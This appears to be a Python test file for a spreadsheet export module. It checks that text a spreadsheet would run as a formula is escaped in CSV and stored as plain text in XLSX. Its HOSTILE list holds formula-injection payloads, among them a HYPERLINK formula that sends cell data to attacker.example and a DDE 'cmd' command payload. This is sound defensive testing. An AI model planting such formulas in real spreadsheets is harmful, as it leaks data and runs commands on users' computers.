"""The one spreadsheet writer: text that a spreadsheet would run as a formula is written as text, numbers as numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from pegasus.core import spreadsheets

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _reopened(workbook: Workbook):
    return load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(workbook))).active


class TestCsv:
    def test_text_that_would_run_is_quoted_and_other_cells_are_as_given(self):
        # given / when
        text = spreadsheets.csv_text(
            [["name", "amount", "when"], *[[h, Decimal("-12.50"), date(2020, 1, 2)] for h in HOSTILE]]
        )
        # then
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert [r[0] for r in rows[1:]] == [f"'{h}" if h[0] in "=+-@\t\r" else h for h in HOSTILE]
        assert {(r[1], r[2]) for r in rows[1:]} == {("-12.50", "2020-01-02")}

    def test_none_is_an_empty_cell_and_plain_text_is_unchanged(self):
        rows = list(csv.reader(io.StringIO(spreadsheets.csv_text([[None, "Thamesmead Networks plc", -5, 0]]))))
        assert rows == [["", "Thamesmead Networks plc", "-5", "0"]]

    @given(st.text())
    def test_no_text_cell_ever_begins_with_a_formula_character(self, value):
        (cell,) = next(csv.reader(io.StringIO(spreadsheets.csv_text([[value]]), newline="")))
        assert not cell.startswith(spreadsheets.FORMULA_TRIGGERS)
        assert cell in (value, f"'{value}")


class TestXlsx:
    def test_text_is_stored_as_text_never_as_a_formula(self):
        # given
        workbook = Workbook()
        # when
        for value in HOSTILE:
            spreadsheets.xlsx_append(workbook.active, [value, Decimal("-12.50"), -3])
        # then
        sheet = _reopened(workbook)
        assert [(r[0].value, r[0].data_type) for r in sheet.iter_rows()] == [(h, "s") for h in HOSTILE]
        assert {(r[1].value, r[1].data_type, r[2].value) for r in sheet.iter_rows()} == {(-12.5, "n", -3)}

    def test_rows_follow_one_another_with_empty_rows_kept(self):
        workbook = Workbook()
        spreadsheets.xlsx_append(workbook.active, ["first"])
        spreadsheets.xlsx_append(workbook.active, [])
        spreadsheets.xlsx_append(workbook.active, [None, "third"])
        sheet = _reopened(workbook)
        assert (sheet["A1"].value, sheet["B3"].value) == ("first", "third")

    def test_characters_an_xlsx_cannot_hold_are_left_out_instead_of_failing(self):
        workbook = Workbook()
        spreadsheets.xlsx_append(workbook.active, ["Bad\x00 name\x1b plc", "line one\nline two"])
        sheet = _reopened(workbook)
        assert (sheet["A1"].value, sheet["B1"].value) == ("Bad name plc", "line one\nline two")

    @given(st.text(st.characters(blacklist_categories=("Cs",)), min_size=1))
    def test_any_text_comes_back_as_text(self, value):
        workbook = Workbook()
        spreadsheets.xlsx_append(workbook.active, [value])
        cell = _reopened(workbook)["A1"]
        assert cell.data_type == "s" or (cell.value is None and not spreadsheets.xlsx_text(value))
